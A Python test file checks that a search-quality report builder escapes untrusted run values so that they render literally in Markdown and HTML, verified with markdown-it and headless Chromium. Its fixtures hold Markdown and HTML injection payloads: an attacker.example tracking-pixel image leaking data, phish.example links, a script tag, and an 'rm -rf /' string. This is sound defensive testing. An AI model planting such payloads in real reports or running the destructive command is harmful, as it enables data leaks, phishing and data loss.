"""Every value the report takes from run files renders as literal text, in the
Markdown file and in the self-contained HTML page (checked with markdown-it's output and in headless
Chromium's DOM): no image, link, heading, emphasis, code, raw HTML or entity from a value, and a pipe
never breaks a table row."""

from __future__ import annotations

import json
import shutil
import subprocess
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest

from judge_runner.analysis.report import build_report, md_text

# One member of each kind of Markdown a value could smuggle in (the four reported examples first).
HOSTILE = {
    "image": "![s](https://attacker.example/pixel.png?leak=internal)",
    "link": "[the fix](https://phish.example/login)",
    "heading": "steps\n\n# INJECTED",
    "pipes": "drain | node | extra",
    "raw_html": '<img src="https://attacker.example/raw.png"> <a href="https://phish.example/raw">x</a> <script>alert(1)</script>',
    "autolink": "<https://phish.example/autolink> and <evil@phish.example>",
    "backticks": "`rm -rf /` and ``` fence",
    "emphasis": "*em* _em_ **strong** __strong__ ~~strike~~ a_b_ _c_d snake_case_name",
    "entities": "&lt;img src=x&gt; &#60;a&#62; &amp; &copy;",
    "reference": "[ref]\n\n[ref]: https://phish.example/ref",
    "setext": "a title\n=====",
    "blocks": "x\n> quoted\n- item\n1. one\n    indented code",
    "cr_lines": "x\r\r## CR heading\r\n### CRLF heading",
    "hard_break": "trailing backslash\\\nnext",
    "escaped_pipe": "already \\| escaped \\\\| twice",
    "html_comment": "<!-- hide the rest",
    "list_start": "- a list item",
    "ordered_start": "1. one",
    "paren_start": "2) two",
    "plus_start": "+ plus",
    "indented": "        indented code",
    "math": "$x^2$ and $$y$$",
    "thematic": "***",
}
VALUES = list(HOSTILE.values())


def _run_lines(run_id: str, day: int, judge_model: str) -> list[dict]:
    provenance = {
        "provider": "anthropic",
        "judgeModel": judge_model,
        "generatorModel": judge_model,
        "heuristicJudge": False,
        "promptSha256": {"judge_system.md": "1" * 64, "judge_user.md": "2" * 64},
        "querySetSha256": "a" * 64,
        "corpusFingerprint": "c",
        "searchConfig": {"rrf_k": 60},
        "judgeRunnerVersion": "0.1.0",
    }
    lines: list[dict] = [
        {"type": "run_start", "runId": run_id, "timestamp": f"2026-11-{day:02d}T10:00:00.000Z", "config": {}, "provenance": provenance}
    ]
    for i, value in enumerate(VALUES):
        o = 0.1 + 0.03 * i
        lines.append(
            {
                "type": "evaluation",
                "runId": run_id,
                "queryId": f"q{i:02d}{value[:20]}",
                "query": value,
                "queryIntent": value,
                "queryType": value,
                "scores": {d: o for d in ("relevance", "ranking", "coverage", "snippetQuality", "overall")},
                "analysis": {d: value for d in ("relevance", "ranking", "coverage", "snippetQuality")},
                "suggestions": [value, value],
                "metrics": {"nDCG@10": o, "R@10": o, "RR(rel=2)": o},
                "results": [{"rank": 1, "source": value, "score": 0.5, "relevance": 2, "relevant": True}],
            }
        )
        lines.append(
            {
                "type": "error",
                "runId": run_id,
                "queryId": f"e{i:02d}{value[:20]}",
                "query": value,
                "stage": "judge",
                "errorType": value,
                "message": value,
                "attempts": 2,
            }
        )
    lines.append(
        {
            "type": "summary",
            "runId": run_id,
            "timestamp": f"2026-11-{day:02d}T10:05:00.000Z",
            "evaluated": len(VALUES),
            "costUsd": 0.12,
            "recommendedFocus": " ".join(VALUES),
            "topIssues": [{"issue": v, "count": 2, "queryIds": [v, "q01"]} for v in VALUES],
        }
    )
    return lines


@pytest.fixture
def results(tmp_path):
    results = tmp_path / "quality-results"
    results.mkdir()
    judge = "model ![m](https://attacker.example/model.png) | x"
    for run_id, day in (("r1", 20), ("r2 [run](https://phish.example/run) | y", 27)):
        name = "r1" if run_id == "r1" else "r2"
        (results / f"{name}.jsonl").write_text("".join(json.dumps(line) + "\n" for line in _run_lines(run_id, day, judge)))
    # a file whose name is hostile, with a damaged middle line: its warning lands in the report's notes
    damaged = results / "old ![w](https:attacker.example) | z.jsonl"
    lines = [json.dumps(line) for line in _run_lines("r0", 1, "other-judge")]
    damaged.write_text("\n".join(lines[:2] + ["{damaged"] + lines[2:]) + "\n")
    rich = results / "rich.jsonl"
    rich.write_text("".join(json.dumps(line) + "\n" for line in _run_lines(RICH_MARKUP, 2, RICH_MARKUP)))
    return results


RICH_MARKUP = "[link=https://phish.example/rich]rich[/link] [bold red]loud[/]"


@pytest.fixture
def report(results, tmp_path):
    return build_report(results, tmp_path / "reports", "30d", now=datetime(2026, 11, 28, tzinfo=UTC))


class DOM(HTMLParser):
    """Tags (with attributes), text, and table rows with their cell counts, of an HTML page."""

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.rows: list[list[int]] = []  # per table: cell count of each row
        self.headings: list[tuple[str, str]] = []
        self._heading: str | None = None
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "table":
            self.rows.append([])
        elif tag == "tr":
            self.rows[-1].append(0)
        elif tag in ("td", "th"):
            self.rows[-1][-1] += 1
        elif tag in ("h1", "h2", "h3", "h4", "h5", "h6"):
            self._heading = ""
            self.headings.append((tag, ""))

    def handle_endtag(self, tag):
        if tag in ("h1", "h2", "h3", "h4", "h5", "h6") and self.headings:
            self.headings[-1] = (self.headings[-1][0], self._heading or "")
            self._heading = None

    def handle_data(self, data):
        self.text.append(data)
        if self._heading is not None:
            self._heading += data

    def count(self, tag: str) -> int:
        return sum(1 for t, _ in self.tags if t == tag)


def _flat(value: str) -> str:
    return " ".join(value.split())


def check_page(page: str) -> None:
    dom = DOM(page)
    images = [a.get("src", "") for t, a in dom.tags if t == "img"]
    assert len(images) == 2 and all(src.startswith("data:image/png;base64,") for src in images)  # the two charts only
    for tag in ("a", "script", "code", "pre", "del", "s", "h4", "h5", "h6", "ol", "hr"):
        assert dom.count(tag) == 0, tag
    # one quote only, the report's own: the latest run failed (half its queries are error lines)
    assert dom.count("blockquote") == 1 and page.count("<blockquote>\n<p><strong>The latest run FAILED.</strong>") == 1
    assert dom.count("h1") == 1
    assert [h for t, h in dom.headings if t == "h2"] == [
        "Headline numbers",
        "Over time",
        "Worst queries",
        "Top issues and focus",
        "Cost (runs since 30d)",
        "Failed queries",
        "Notes",
    ]
    h3 = [h for t, h in dom.headings if t == "h3"]
    assert len(h3) == 5 and all(h.startswith("q") and "overall" in h for h in h3)
    for table in dom.rows:
        assert len(set(table)) == 1, table  # every row has as many cells as the header
    text = _flat(" ".join(dom.text))
    for value in VALUES:
        assert _flat(value) in text, value  # shown literally, characters and all
    assert not [h for _, h in dom.headings if h.strip().startswith(("INJECTED", "CR heading", "CRLF heading", "a title"))]
    # emphasis only where the report itself puts it
    strong_or_em = dom.count("strong") + dom.count("em")
    # "Latest run **id**"; the failed-run banner's **The latest run FAILED.** and **id**; per worst query: *type* and **dimension** x 4
    assert strong_or_em == 1 + 2 + 5 * (1 + 4)
    assert "attacker.example" not in " ".join(a.get("src", "") + a.get("href", "") for _, a in dom.tags)


def test_markdown_file_and_page_show_every_value_literally(report):
    from markdown_it import MarkdownIt

    md = report.markdown.read_text()
    check_page(
        MarkdownIt("commonmark", {"html": True}).enable("table").render(md).replace('<img src="report-', '<img src="data:image/png;base64,')
    )
    check_page(report.html.read_text())


def test_headless_chromium_dom_has_no_injected_element(report, tmp_path):
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        pytest.skip("Chromium is not installed (Debian package `chromium`); cannot check the page in a real browser")
    done = subprocess.run(
        [
            browser,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={tmp_path / 'profile'}",
            "--dump-dom",
            report.html.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    assert "<html" in done.stdout[:200].lower()
    check_page(done.stdout)


@pytest.mark.parametrize("value", VALUES)
def test_md_text_is_one_literal_line(value):
    from markdown_it import MarkdownIt

    escaped = md_text(value)
    assert "\n" not in escaped and "\r" not in escaped
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(f"| {escaped} |\n|---|\n| {escaped} |\n")
    dom = DOM(rendered)
    assert dom.rows == [[1, 1]]
    assert {t for t, _ in dom.tags} == {"table", "thead", "tbody", "tr", "th", "td"}
    assert _flat(" ".join(dom.text)).count(_flat(value)) == 2


def test_trend_markdown_shows_every_value_literally(results):
    from markdown_it import MarkdownIt

    from tests.support.clitools import invoke

    out = invoke(["trend", str(results), "--format", "markdown"]).stdout
    dom = DOM(MarkdownIt("commonmark", {"html": True}).enable("table").render(out))
    assert dom.count("a") == dom.count("img") == dom.count("h1") == dom.count("h2") == dom.count("em") == 0
    assert all(len(set(table)) == 1 for table in dom.rows)
    text = _flat(" ".join(dom.text))
    assert "model ![m](https://attacker.example/model.png) | x" in text and RICH_MARKUP in text


def test_trend_table_shows_rich_markup_literally(results):
    from tests.support.clitools import invoke

    out = invoke(["trend", str(results)]).stdout
    assert RICH_MARKUP in out and "\x1b]8;" not in out  # no terminal hyperlink
